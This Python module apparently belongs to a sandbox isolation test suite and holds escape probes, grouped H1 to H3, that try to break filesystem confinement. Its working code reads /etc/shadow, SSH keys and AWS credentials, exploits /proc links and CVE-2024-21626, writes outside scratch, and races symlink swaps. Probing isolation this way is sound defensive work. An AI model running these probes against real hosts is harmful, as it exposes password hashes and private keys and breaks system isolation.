"""Files of the host: reading them, writing them, and the ways around a path. H1, H2, H3."""

import os
import threading

from attack import Stopped, attack, named

SCRATCH = "/tmp"
SWAPS = 20_000


def read_some(path):
    with open(path, "rb") as file:
        return f"read {len(file.read(4096))} bytes of {path}"


def first_that(action, paths):
    """Evidence from the first path where the action works, else Stopped with all refusals."""
    refusals = {}
    for path in paths:
        try:
            return action(path)
        except OSError as error:
            refusals.setdefault(named(error), []).append(path)
    raise Stopped("; ".join(f"{why} at {' '.join(who)}" for why, who in refusals.items()))


def fresh(name):
    """A path in the scratch at which nothing is."""
    path = f"{SCRATCH}/{name}-{os.getpid()}"
    if os.path.lexists(path):
        os.unlink(path)
    return path


@attack("H1", "reads the password hashes of the host")
def read_shadow(_):
    return first_that(read_some, ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"])


@attack("H1", "reads keys and histories in home directories")
def read_home_keys(_):
    homes = ["/root"] + [f"/home/{name}" for name in os.listdir("/home") if name != "tool"]
    wanted = [".ssh/id_ed25519", ".ssh/authorized_keys", ".aws/credentials", ".bash_history", ""]
    own = os.environ.get("HOME", "")

    def look(path):
        return f"lists {os.listdir(path)}" if path.endswith("/") else read_some(path)

    return first_that(look, [f"{home}/{name}" for home in homes if home != own for name in wanted])


@attack("H1", "reads a file of the host that every user may read")
def read_host_file(host):
    return read_some(host.get("secret", "/var/lib/dpkg/status"))


@attack("H1", "lists directories that only a host has")
def walk_root(_):
    places = ["/boot", "/var/lib", "/var/log", "/srv", "/mnt", "/media", "/lost+found", "/sys",
              "/run", "/root", "/proc/sys"]

    def look(place):
        names = os.listdir(place)
        if not names:
            raise FileNotFoundError(2, "empty", place)
        return f"{place} has {len(names)} entries, the first {names[0]}"

    return first_that(look, places)


@attack("H1", "climbs above the root with ..")
def climb_above_root(host):
    above = "/" + "../" * 64
    if os.stat(above).st_ino != os.stat("/").st_ino or os.stat(above).st_dev != os.stat("/").st_dev:
        return "above the root lies another directory"
    return read_some(above + host.get("secret", "/var/lib/dpkg/status"))


@attack("H1", "takes the links of /proc to another root or working directory")
def proc_root_link(host):
    secret = host.get("secret", "/var/lib/dpkg/status")
    links = [f"/proc/{pid}/{link}" for pid in ("self", "1", os.getppid())
             for link in ("root", "cwd")]
    return first_that(read_some, [link + secret for link in links])


@attack("H1", "keeps a working directory outside (CVE-2024-21626)")
def outside_directory(host):
    here = os.getcwd()
    if here.startswith("(unreachable)"):
        return f"works in {here}"
    names = os.listdir("../" * 16 or ".")
    if sorted(names) != sorted(os.listdir("/")):
        return "from the working directory, .. leads to another root"
    return read_some("../" * 16 + host.get("secret", "/var/lib/dpkg/status"))


@attack("H1", "looks for the old root that pivot_root leaves under a mount")
def old_root(host):
    secret = host.get("secret", "/var/lib/dpkg/status")
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as table:
        points = [line.split()[4].rstrip("/") for line in table]
    guesses = ["/oldroot", "/.oldroot", "/.pivot_root", "/host", "/rootfs", "/mnt/host"]
    return first_that(read_some, [point + secret for point in points + guesses])


@attack("H1", "writes outside its scratch")
def write_outside(_):
    def write(place):
        path = os.path.join(place, "corral-was-here")
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
        return f"wrote {path}"

    return first_that(write, ["/usr", "/usr/lib", "/etc", "/opt/card", "/dev", "/proc", "/home",
                              "/"])


@attack("H1", "writes into a directory that was mounted for reading")
def write_read_only(_):
    place = os.path.dirname(os.path.abspath(__file__))
    path = f"{place}/corral-was-here"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    return f"wrote {path}"


@attack("H1", "changes a system file in place: truncate, chmod, rename, extended attribute")
def change_system_file(_):
    target = "/usr/bin/env"
    ways = [lambda path: os.truncate(path, os.stat(path).st_size),
            lambda path: os.chmod(path, os.stat(path).st_mode & 0o7777),
            lambda path: os.rename(path, path),
            lambda path: os.setxattr(path, "user.corral", b"1")]
    refusals = set()
    for number, way in enumerate(ways):
        try:
            way(target)
        except OSError as error:
            refusals.add(named(error))
            continue
        # rename of a path to itself is allowed to say yes and do nothing (rename(2)).
        if number != 2:
            return f"way {number} changed {target}"
    raise Stopped(", ".join(sorted(refusals)))


@attack("H2", "follows its own symbolic links out")
def symlink_out(host):
    def through(target):
        path = fresh("link")
        os.symlink(target, path)
        return read_some(path)

    secret = host.get("secret", "/var/lib/dpkg/status")
    return first_that(through, [secret, "/etc/shadow", "../../../../../.." + secret])


@attack("H2", "swaps a directory and a link under a path that is being opened")
def symlink_race(host):
    secret = host.get("secret", "/var/lib/dpkg/status")
    place = fresh("race")
    inner, link, name = f"{place}/inner", f"{place}/link", os.path.basename(secret)
    os.mkdir(place)
    os.mkdir(inner)
    os.symlink(os.path.dirname(secret), link)
    going = True

    def swap():
        while going:
            for first, second in ((inner, "spare"), (link, "inner"), ("spare", "link")):
                try:
                    os.rename(os.path.join(place, first), os.path.join(place, second))
                except OSError:
                    pass

    racer = threading.Thread(target=swap, daemon=True)
    racer.start()
    try:
        for _ in range(SWAPS):
            try:
                return read_some(f"{inner}/{name}")
            except OSError:
                continue
    finally:
        going = False
        racer.join()
    raise Stopped(f"nothing there in {SWAPS} tries")


@attack("H2", "links a file of the host into its scratch")
def hard_link_in(_):
    path = fresh("hard")
    os.link("/usr/bin/env", path)
    return f"linked /usr/bin/env as {path}"


@attack("H2", "plants a link in a shared directory that reads lead out of", where="shared")
def link_in_shared(host):
    path = f"{host['shared']}/out-{os.getpid()}"
    os.symlink(os.path.dirname(host["secret"]), path)
    try:
        return read_some(f"{path}/{os.path.basename(host['secret'])}")
    finally:
        os.unlink(path)


@attack("H2", "has its shared directory swapped for a link while its sandbox is made", where="swap")
def swapped_directory(host):
    # The runner swaps and starts, again and again; this looks what was mounted.
    return read_some(f"{host['swapped']}/secret")


@attack("H3", "reads a directory whose name begins like its own", where="shared")
def sibling_directory(host):
    shared = host["shared"]
    return first_that(read_some, [f"{shared}-secret/secret", f"{shared}/../shared-secret/secret",
                                  f"{shared}/./..//shared-secret/secret"])


@attack("H3", "climbs out of a shared directory by .. and by descriptor", where="shared")
def climb_out_of_shared(host):
    directory = os.open(host["shared"], os.O_PATH | os.O_DIRECTORY)
    try:
        for _ in range(16):
            above = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=directory)
            os.close(directory)
            directory = above
        secret = os.open(host["secret"][1:], os.O_RDONLY, dir_fd=directory)
        return f"read {len(os.read(secret, 99))} bytes"
    finally:
        os.close(directory)
